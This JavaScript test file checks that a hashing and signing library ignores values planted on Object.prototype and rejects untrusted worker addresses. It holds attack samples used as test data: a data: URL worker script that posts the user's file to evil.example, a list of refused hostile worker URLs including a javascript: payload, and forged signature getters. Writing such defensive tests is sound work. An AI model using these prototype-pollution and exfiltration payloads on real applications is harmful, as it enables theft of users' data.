// A polluted Object.prototype changes nothing: every option object and request object of every
// export is read through its own members only (lib/core.js `own`). For each option name of each
// export (the lists beside the code, checked here against the .d.ts types, so that a new option
// cannot be missed), the test first shows that the value changes the outcome when given as the
// caller's own member (so the check can fail), then sets it on Object.prototype and checks that
// the outcome without it is the unpolluted one. The prototype is cleaned after every check.
import test from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import * as api from '../../pkg/node.js';
import * as hashOnly from '../../pkg/hash.js';
import * as helpers from '../../pkg/helpers.js';
import { HASH_KEYS } from '../../pkg/lib/hash-stream.js';
import { CRC_OPTION_KEYS, VERIFY_OPTION_KEYS, OAUTH1_FIELDS } from '../../pkg/lib/signing.js';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const read = (p) => readFileSync(path.join(root, p), 'utf8');
/** The strings of a `const NAME: &[&str] = &[...]` list in a Rust source (the engine reads the options). */
const rustList = (file, name) =>
  [...new RegExp(`const ${name}: &\\[&str\\] = &\\[([^\\]]*)\\]`).exec(read(file))[1].matchAll(/"(\w+)"/g)].map((m) => m[1]);

/** The member names of `interface name {...}` (and of its `extends` parents) in a .d.ts text. */
function members(dts, name) {
  const m = new RegExp(`export interface ${name}(?: extends (\\w+))? \\{([\\s\\S]*?)\\n\\}`).exec(dts);
  assert.ok(m, `interface ${name} not found`);
  const own = [...m[2].matchAll(/^ {2}(\w+)\??:/gm)].map((x) => x[1]);
  return [...new Set([...(m[1] ? members(dts, m[1]) : []), ...own])];
}

const audienceDts = read('pkg/types/audience.d.ts');
const signingDts = read('pkg/types/signing.d.ts');
const indexDts = read('pkg/index.d.ts');

const RECORD_VALUES = [
  ['email', 'polluter@example.com'],
  ['phone_number', '+1 212 555 0100'],
  ['handle', '@polluter'],
  ['device_id', '38400000-8cf0-11bd-b23e-10b96e40000d'],
  ['service_id', '12345'],
  ['partner_user_id', 'polluter'],
];

/** The options of validate beside context, with values that change the report of `clockPayload`. */
const VALIDATE_VALUES = [
  ['now', '2000-01-01T00:00:00Z'],
  ['max_issues', 0],
];

const CONTEXT_VALUES = [
  ['objective', 'ENGAGEMENTS'],
  ['placements', ['ALL_ON_TWITTER', 'PUBLISHER_NETWORK']],
  ['budget_optimization', 'LINE_ITEM'],
  ['current', { bid_amount_local_micro: 1000000 }],
  ['media_types', { '13_1153584529292270722': 'VIDEO' }],
  ['authenticated_user_id', '756201191646691328'],
];

test('the option lists beside the code are the members of the .d.ts option types', () => {
  const sorted = (a) => [...a].sort();
  assert.deepEqual(sorted(HASH_KEYS), sorted(members(audienceDts, 'HashOptions')));
  assert.deepEqual(sorted(rustList('bindings/shared/src/opts.rs', 'HASH_KEYS')), sorted(HASH_KEYS));
  const bodyKeys = [...rustList('bindings/shared/src/bodies.rs', 'BODY_KEYS'), ...HASH_KEYS];
  assert.deepEqual(sorted(bodyKeys), sorted(members(audienceDts, 'AudienceBodyOptions')));
  assert.deepEqual(sorted(CRC_OPTION_KEYS), sorted(members(signingDts, 'CrcTokenOptions')));
  assert.deepEqual(sorted(VERIFY_OPTION_KEYS), sorted(members(signingDts, 'VerifyOptions')));
  const oauth = new Set();
  for (const i of ['Oauth1PlainRequest', 'Oauth1RequestTokenRequest', 'Oauth1AuthorizeRequest', 'Oauth1AccessTokenRequest', 'Oauth1InvalidateTokenRequest']) {
    for (const k of members(signingDts, i)) oauth.add(k);
  }
  assert.deepEqual(sorted(OAUTH1_FIELDS), sorted(oauth));
  assert.deepEqual(sorted(members(indexDts, 'ValidateOptions')), sorted(['context', ...VALIDATE_VALUES.map(([k]) => k)]));
  assert.deepEqual(sorted(CONTEXT_VALUES.map(([k]) => k)), sorted([...indexDts.matchAll(/^ {4}(\w+)\?:/gm)].map((x) => x[1])));
  assert.deepEqual(sorted(RECORD_VALUES.map(([k]) => k)), sorted(/export type IdType =([^;]*);/.exec(read('pkg/types/codes.d.ts'))[1].match(/\w+/g)));
});

/** A call's outcome as comparable text: its result, or its error's name and code. */
function outcome(fn) {
  try {
    return JSON.stringify({ ok: fn() });
  } catch (e) {
    return JSON.stringify({ error: e?.name, code: e?.code });
  }
}

/** Runs `fn` with Object.prototype[name] = value (enumerable, as an assignment makes it). */
function polluted(name, value, fn) {
  assert.ok(!Object.prototype.hasOwnProperty.call(Object.prototype, name), `Object.prototype.${name} exists`);
  Object.prototype[name] = value;
  try {
    return fn();
  } finally {
    delete Object.prototype[name];
  }
}

/**
 * The check of one option: `probe(options)` returns the outcomes of some calls with that options
 * argument. Given as an own member the value must change them; on the prototype it must not.
 */
function check(name, value, probe, bases = [undefined, {}]) {
  const clean = bases.map((b) => probe(b === undefined ? undefined : { ...b }));
  const withOwn = bases.map((b) => probe({ ...b, [name]: value }));
  assert.notDeepEqual(withOwn, clean, `${name}: the value changes nothing even as an own member`);
  const after = polluted(name, value, () => bases.map((b) => probe(b === undefined ? undefined : { ...b })));
  assert.deepEqual(after, clean, `${name} on Object.prototype changed the outcome`);
}

const HASH_VALUES = [
  ['phoneFormat', 'digits'],
  ['defaultCountryCode', '44'],
  ['prehashed', true],
];
const PHONE = ['020 7946 0958', '+44 20 7946 0958'];
const DIGEST = 'AB'.repeat(32);

for (const [entry, mod] of [['preflight-wasm', api], ['preflight-wasm/hash', hashOnly]]) {
  test(`${entry}: every hash option on Object.prototype changes nothing, in every hash function`, () => {
    const probe = (o) => [
      ...PHONE.map((v) => outcome(() => mod.normalizeIdentifier('phone_number', v, o))),
      ...PHONE.map((v) => outcome(() => mod.hashIdentifier('phone_number', v, o))),
      outcome(() => mod.hashIdentifier('email', DIGEST, o)),
      outcome(() => mod.hashIdentifiers('phone_number', PHONE, o)),
      outcome(() => mod.hashIdentifiers('email', [DIGEST], o)),
      outcome(() => mod.hashLines('phone_number', PHONE.join('\n'), o)),
      outcome(() => mod.hashLines('email', DIGEST, o)),
      outcome(() => {
        const h = mod.createLineHasher('phone_number', o);
        return [h.push(`${PHONE[0]}\n`), h.finish()];
      }),
      outcome(() => {
        const h = mod.createLineHasher('email', o);
        return [h.push(DIGEST), h.finish()];
      }),
    ];
    for (const [name, value] of HASH_VALUES) check(name, value, probe);
  });
}

const RECORDS = [{ email: 'A@x.com' }, { phone_number: '+1 617 555 1212' }];
const BODY_VALUES = [
  ...HASH_VALUES,
  ['operation', 'Delete'],
  ['effectiveAt', '2030-01-01T00:00:00Z'],
  ['expiresAt', '2031-01-01T00:00:00Z'],
  ['now', 'not a date'],
  ['maxUsersPerBody', 1],
  ['maxBodyBytes', 1],
];

test('buildAudienceBodies: every option and every record field on Object.prototype changes nothing', () => {
  const probe = (o) => [
    outcome(() => api.buildAudienceBodies('custom_audience_users', RECORDS, o)),
    outcome(() => api.buildAudienceBodies('custom_audience_users', [{ phone_number: '020 7946 0958' }, { email: DIGEST }], o)),
    outcome(() => api.buildAudienceBodies('do_not_reach_users', RECORDS, o)),
    outcome(() => api.buildAudienceBodies('custom_audience_users', RECORDS, { operation: 'Update', ...o, expiresAt: '2035-01-01T00:00:00Z' })),
  ];
  for (const [name, value] of BODY_VALUES) {
    check(name, value, probe, name === 'operation' ? [{}] : [{ operation: 'Update' }]);
  }
  // Record fields: a record's own members only.
  const records = (extra) => [{ phone_number: '+1 617 555 1212', ...extra }, { ...extra }];
  for (const [name, value] of RECORD_VALUES) {
    const probeRecords = (extra) => outcome(() => api.buildAudienceBodies('custom_audience_users', records(extra), { operation: 'Update' }));
    const clean = probeRecords({});
    assert.notEqual(probeRecords({ [name]: value }), clean, `record field ${name} changes nothing even as an own member`);
    assert.equal(polluted(name, value, () => probeRecords({})), clean, `record field ${name} on Object.prototype changed the bodies`);
  }
});

const SECRET = 'prototype-secret';
const CRC_TOKENS = ['{"event_id":"x1"}', 'abcdefghijklmnopqrstuvwx', 'abcdef', 'a'.repeat(200)];

test('crcResponseToken, crcResponse: no CRC policy member on Object.prototype switches the guard', () => {
  const probe = (o) => CRC_TOKENS.flatMap((t) => [outcome(() => api.crcResponseToken(SECRET, t, o)), outcome(() => api.crcResponse(SECRET, t, o))]);
  for (const [name, value] of [['minLength', 1], ['maxLength', 300], ['extraChars', '{}":,']]) check(name, value, probe);
  // The exact attack: both together sign a JSON body.
  Object.prototype.minLength = 1;
  Object.prototype.extraChars = '{}":,';
  try {
    assert.throws(() => api.crcResponseToken(SECRET, '{"event":"x"}'), (e) => e.code === 'crc_token_shape');
  } finally {
    delete Object.prototype.minLength;
    delete Object.prototype.extraChars;
  }
});

test('verifySignature, verifyCrcRequest: headerName on Object.prototype changes nothing', async () => {
  const { createHmac } = await import('node:crypto');
  const body = '{"event_id":"1"}';
  const query = 'crc_token=abcdefghijklmnopqrstuvwx';
  const sign = (t) => `sha256=${createHmac('sha256', SECRET).update(t).digest('base64')}`;
  const headers = { 'x-service-webhooks-signature': sign(body), 'x-other': 'sha256=AAAA' };
  const crcHeaders = { 'x-service-webhooks-signature': sign(query) };
  const probe = (o) => [
    outcome(() => api.verifySignature(SECRET, body, headers, o)),
    outcome(() => api.verifySignature(SECRET, body, new Headers(headers), o)),
    outcome(() => api.verifyCrcRequest(SECRET, query, crcHeaders, o)),
  ];
  assert.deepEqual(probe(undefined), ['{"ok":true}', '{"ok":true}', '{"ok":true}']);
  check('headerName', 'x-other', probe);
  // A headers object is read by its own keys; a forEach and get on the prototype are not its.
  const fake = (cb) => cb(sign('forged'), 'x-service-webhooks-signature');
  Object.prototype.forEach = fake;
  Object.prototype.get = () => sign('forged');
  try {
    assert.equal(api.verifySignature(SECRET, 'forged', {}), false);
    assert.equal(api.verifySignature(SECRET, body, headers), true);
  } finally {
    delete Object.prototype.forEach;
    delete Object.prototype.get;
  }
});

const OAUTH_BASE = {
  method: 'POST',
  url: 'https://api.example.com/1.1/statuses/update.json',
  consumerKey: 'ck',
  consumerSecret: 'cs',
  nonce: 'ownnonce',
  timestamp: 1700000000,
};
const OAUTH_VALUES = [
  ['method', 'GET'],
  ['url', 'https://api.example.com/other'],
  ['params', { status: 'polluted' }],
  ['consumerKey', 'other-key'],
  ['consumerSecret', 'other-secret'],
  ['token', 'polluted-token'],
  ['tokenSecret', 'polluted-token-secret'],
  ['nonce', 'fixednonce'],
  ['timestamp', 1600000000],
  ['callback', 'oob'],
  ['verifier', 'polluted-verifier'],
  ['realm', 'polluted'],
  ['step', 'request_token'],
  ['omitVersion', true],
];

test('oauth1Sign: no request member on Object.prototype changes the signature', () => {
  assert.deepEqual(OAUTH_VALUES.map(([k]) => k).sort(), [...OAUTH1_FIELDS].sort());
  for (const [name, value] of OAUTH_VALUES) {
    // The request without that member (required ones: an error either way), with a fixed nonce
    // and timestamp unless it is one of those; then the random nonce and the clock's timestamp
    // must not be the polluted value.
    const base = { ...OAUTH_BASE };
    delete base[name];
    const sign = (o) => {
      const r = api.oauth1Sign(o);
      if (name === 'nonce') return r.nonce === value ? 'polluted nonce' : 'random nonce';
      if (name === 'timestamp') return r.timestamp === value ? 'polluted timestamp' : 'clock timestamp';
      return r;
    };
    const probe = (o) => [outcome(() => sign({ ...base, ...o }))];
    check(name, value, probe, [{}]);
  }
  // The example: every call would reuse the polluted nonce.
  const nonces = polluted('nonce', 'fixed', () => [1, 2].map(() => api.oauth1Sign({ ...OAUTH_BASE, nonce: undefined }).nonce));
  assert.notEqual(nonces[0], 'fixed');
  assert.notEqual(nonces[0], nonces[1]);
});

test('validate: options.context and every context fact on Object.prototype change nothing', () => {
  // The payloads of the vectors that give each fact (tests/vectors/: their rules need it).
  const payloads = [];
  const dir = path.join(root, 'tests/vectors');
  for (const [name] of CONTEXT_VALUES) {
    const c = readdirSync(dir)
      .filter((f) => f.endsWith('.json'))
      .flatMap((f) => JSON.parse(readFileSync(path.join(dir, f), 'utf8')))
      .find((v) => v.options?.context && name in v.options.context && typeof v.payload !== 'string');
    payloads.push([c.kind, c.payload]);
  }
  const probe = (o) => payloads.flatMap(([kind, p]) => [outcome(() => api.validate(kind, p, o)), outcome(() => api.validate(kind, JSON.stringify(p), o))]);
  check('context', Object.fromEntries(CONTEXT_VALUES), probe);
  for (const [name, value] of CONTEXT_VALUES) {
    const inContext = (o) => probe(o === undefined ? undefined : { context: { ...o } });
    check(name, value, inContext, [{}]);
  }
});

test('validate: every other option (now, max_issues) on Object.prototype changes nothing', () => {
  // A vector whose rules read the clock and that has issues, so both options change its report.
  const dir = path.join(root, 'tests/vectors');
  const c = readdirSync(dir)
    .filter((f) => f.endsWith('.json'))
    .flatMap((f) => JSON.parse(readFileSync(path.join(dir, f), 'utf8')))
    .find((v) => v.options?.now && typeof v.payload !== 'string' && v.valid === false);
  assert.ok(c, 'a vector that pins now and is invalid');
  const probe = (o) => [outcome(() => api.validate(c.kind, c.payload, o)), outcome(() => api.validate(c.kind, JSON.stringify(c.payload), o))];
  for (const [name, value] of VALIDATE_VALUES) check(name, value, probe);
});

// The helpers (preflight-wasm/helpers): hashFile's and hashFileInWorker's options and control,
// createHashStream's and extractColumn's options, the file itself, and the elements of
// hashIdentifiers' values.
const FILE_OPTION_KEYS = ['type', 'column', 'header', 'delimiter', 'countryColumn', 'onError'];
const STREAM_OPTION_KEYS = ['output', 'onError', 'column', 'header', 'delimiter', 'countryColumn'];
const CONTROL_KEYS = ['onProgress', 'signal'];

test('the helpers\' option and control lists here are the members of the .d.ts types', () => {
  const sorted = (a) => [...a].sort();
  const helpersDts = read('pkg/types/helpers.d.ts');
  const own = (name) => {
    const m = new RegExp(`export interface ${name}(?: extends [\\w, ]+)? \\{([\\s\\S]*?)\\n\\}`).exec(helpersDts);
    assert.ok(m, name);
    return [...m[1].matchAll(/^ {2}(\w+)\??:/gm)].map((x) => x[1]);
  };
  assert.deepEqual(sorted([...own('HashFileOptions'), ...own('CsvOptions')]), sorted(FILE_OPTION_KEYS));
  assert.deepEqual(sorted(own('HashStreamOptions')), sorted(STREAM_OPTION_KEYS));
  assert.deepEqual(sorted(own('CsvOptions')), ['delimiter', 'header']);
  assert.deepEqual(sorted(own('HashFileControl')), sorted(CONTROL_KEYS));
  assert.match(helpersDts, /control\?: HashFileControl & \{ workerUrl\?: string \| URL \| undefined \}/);
});

/** `check` for an async probe. */
async function checkAsync(name, value, probe, bases = [undefined, {}]) {
  const run = async (mk) => {
    const out = [];
    for (const b of bases) out.push(await probe(mk(b)));
    return out;
  };
  const clean = await run((b) => (b === undefined ? undefined : { ...b }));
  const withOwn = await run((b) => ({ ...b, [name]: value }));
  assert.notDeepEqual(withOwn, clean, `${name}: the value changes nothing even as an own member`);
  assert.ok(!Object.prototype.hasOwnProperty.call(Object.prototype, name));
  Object.prototype[name] = value;
  let after;
  try {
    after = await run((b) => (b === undefined ? undefined : { ...b }));
  } finally {
    delete Object.prototype[name];
  }
  assert.deepEqual(after, clean, `${name} on Object.prototype changed the outcome`);
}

const outcomeAsync = async (fn) => {
  try {
    return JSON.stringify({ ok: await fn() });
  } catch (e) {
    return JSON.stringify({ error: e?.name, code: e?.code });
  }
};

const CSV_TEXT = 'email;n\nA@x.com;1\nnot an email;2\n';
const LINES_TEXT = 'A@x.com\nnot an email\n';
const fileResult = async (r) => ({ text: await r.blob.text(), rejected: r.rejected });

for (const [entry, mod] of [['preflight-wasm/helpers', helpers], ['preflight-wasm', api]]) {
  test(`${entry}: hashFile: every option and control member on Object.prototype changes nothing`, async () => {
    const probe = async (o) => [
      await outcomeAsync(async () => fileResult(await mod.hashFile(new Blob([CSV_TEXT]), o))),
      await outcomeAsync(async () => fileResult(await mod.hashFile(new Blob([LINES_TEXT]), o))),
    ];
    const values = [['column', 'email'], ['header', false], ['delimiter', ';'], ['countryColumn', 'n'], ['onError', 'drop']];
    await checkAsync('type', 'email', probe, [{}, { column: 'email', delimiter: ';' }]);
    for (const [name, value] of values) {
      const bases = name === 'header' || name === 'delimiter'
        ? [{ type: 'email', column: 'email', ...(name === 'header' ? { delimiter: ';' } : {}) }]
        : [{ type: 'email' }, { type: 'email', ...(name === 'column' ? { delimiter: ';' } : { column: 'email', delimiter: ';' }) }];
      await checkAsync(name, value, probe, bases);
    }
    // Control: a function on Object.prototype is not called back; an aborted signal there aborts
    // nothing.
    let calls = 0;
    const onProgress = () => calls++;
    const controlProbe = async (c) => {
      calls = 0;
      const o = await outcomeAsync(async () => fileResult(await mod.hashFile(new Blob([LINES_TEXT]), { type: 'email' }, c)));
      return [o, calls];
    };
    await checkAsync('onProgress', onProgress, controlProbe);
    await checkAsync('signal', AbortSignal.abort(new Error('polluted')), controlProbe);
    // The file: an object that only inherits a `stream` is no Blob.
    const evil = () => new Blob(['evil@x.com\n']).stream();
    assert.equal(
      await polluted('stream', evil, () => outcomeAsync(async () => fileResult(await mod.hashFile({ size: 11 }, { type: 'email' })))),
      JSON.stringify({ error: 'PreflightError', code: 'invalid_argument' }),
    );
  });

  test(`${entry}: createHashStream, extractColumn: every option on Object.prototype changes nothing`, async () => {
    const through = async (o) => {
      const out = [];
      const source = new ReadableStream({ start: (c) => { c.enqueue(LINES_TEXT); c.close(); } });
      for await (const x of source.pipeThrough(mod.createHashStream('email', o))) out.push(x);
      return out;
    };
    const probe = (o) => outcomeAsync(() => through(o));
    await checkAsync('output', 'text', probe);
    await checkAsync('onError', 'drop', probe, [{ output: 'text' }]);
    const csvProbe = (o) => [outcome(() => mod.extractColumn(CSV_TEXT, 'email', o)), outcome(() => mod.extractColumn('email,n\na@x.com,1\n', '1', o))];
    check('header', false, csvProbe);
    check('delimiter', ';', csvProbe);
    // createHashStream's CSV options: a column on the prototype must not turn lines into CSV.
    await checkAsync('column', '1', probe);
    const csvThrough = async (o) => {
      const out = [];
      const source = new ReadableStream({ start: (c) => { c.enqueue(new TextEncoder().encode(CSV_TEXT)); c.close(); } });
      for await (const x of source.pipeThrough(mod.createHashStream('email', o))) out.push(x);
      return out;
    };
    const csvStreamProbe = (o) => outcomeAsync(() => csvThrough(o));
    await checkAsync('header', false, csvStreamProbe, [{ column: 'email' }]);
    await checkAsync('delimiter', ';', csvStreamProbe, [{ column: 'email' }]);
    await checkAsync('countryColumn', 'n', csvStreamProbe, [{ column: 'email', delimiter: ';' }]);
  });

  test(`${entry}: hashIdentifiers: an element on a prototype is no element (a hole is not_a_string)`, () => {
    const values = [, 'a@x.com', , ];
    const clean = outcome(() => mod.hashIdentifiers('email', values));
    assert.match(clean, /not_a_string/);
    assert.equal(polluted('0', 'evil@x.com', () => outcome(() => mod.hashIdentifiers('email', values))), clean);
    Array.prototype[2] = 'evil@x.com';
    try {
      assert.equal(outcome(() => mod.hashIdentifiers('email', values)), clean);
    } finally {
      delete Array.prototype[2];
    }
    assert.equal(outcome(() => mod.hashIdentifiers('email', values)), clean);
  });
}

/**
 * Runs `fn` with a stand-in module Worker (it records the address it is started from, answers
 * with one progress message and then the result 'ok') and a page address.
 */
async function withWorker(fn) {
  const started = [];
  globalThis.Worker = class {
    constructor(url, options) {
      started.push(`${url} ${options?.type}`);
      queueMicrotask(() => {
        this.onmessage?.({ data: { type: 'progress', progress: { bytes: 1 } } });
        this.onmessage?.({ data: { type: 'done', result: 'ok' } });
      });
    }
    postMessage() {}
    terminate() {}
  };
  globalThis.location = new URL('https://app.example/page.html');
  try {
    return await fn(started);
  } finally {
    delete globalThis.Worker;
    delete globalThis.location;
  }
}

test('hashFileInWorker: no control member on Object.prototype is read (a data: workerUrl there starts nothing)', async () => {
  await withWorker(async (started) => {
    const file = new Blob(['a@x.com\n']);
    // The attack: the worker would have been started from that address and posted the
    // file. With a control object (the usual call passes one) and without.
    const attack = 'data:text/javascript,self.onmessage=(e)=>fetch("https://evil.example",{method:"POST",body:e.data.file})';
    const own = `${new URL('../../pkg/lib/hash-worker.js', import.meta.url)} module`;
    for (const control of [{ onProgress: () => {} }, {}, undefined]) {
      assert.equal(await polluted('workerUrl', attack, () => helpers.hashFileInWorker(file, { type: 'email' }, control)), 'ok');
    }
    assert.deepEqual(started, [own, own, own]);
    let calls = 0;
    for (const control of [{}, { signal: new AbortController().signal }, undefined]) {
      assert.equal(await polluted('onProgress', () => calls++, () => helpers.hashFileInWorker(file, { type: 'email' }, control)), 'ok');
      assert.equal(await polluted('signal', AbortSignal.abort(), () => helpers.hashFileInWorker(file, { type: 'email' }, control)), 'ok');
    }
    assert.equal(calls, 0);
    // As own members they do act.
    assert.equal(await helpers.hashFileInWorker(file, { type: 'email' }, { onProgress: () => calls++ }), 'ok');
    assert.equal(calls, 1);
    await assert.rejects(helpers.hashFileInWorker(file, { type: 'email' }, { signal: AbortSignal.abort(new Error('own')) }), /own/);
  });
});

test('hashFileInWorker: a workerUrl string must be a same-origin http(s) address; a URL object built by the caller is used as given', async () => {
  await withWorker(async (started) => {
    const file = new Blob(['a@x.com\n']);
    const run = (workerUrl) => helpers.hashFileInWorker(file, { type: 'email' }, { workerUrl }).then((r) => r, (e) => e.code);
    for (const refused of ['data:text/javascript,postMessage(1)', 'blob:https://app.example/0b7c2e4a-1f0e-4c1c-9f3e-6d1f2d3c4b5a',
      'https://evil.example/hash-worker.js', '//evil.example/hash-worker.js', 'javascript:alert(1)', 'http://app.example/w.js', 42]) {
      assert.equal(await run(refused), 'bad_options', String(refused));
    }
    assert.deepEqual(started, []);
    assert.equal(await run('/assets/hash-worker.js'), 'ok');
    assert.equal(await run('https://app.example/x/hash-worker.js'), 'ok');
    // A URL the caller built is taken as given, whatever its scheme.
    assert.equal(await run(new URL('blob:https://app.example/0b7c2e4a-1f0e-4c1c-9f3e-6d1f2d3c4b5a')), 'ok');
    assert.deepEqual(started, [
      'https://app.example/assets/hash-worker.js module',
      'https://app.example/x/hash-worker.js module',
      'blob:https://app.example/0b7c2e4a-1f0e-4c1c-9f3e-6d1f2d3c4b5a module',
    ]);
  });
});
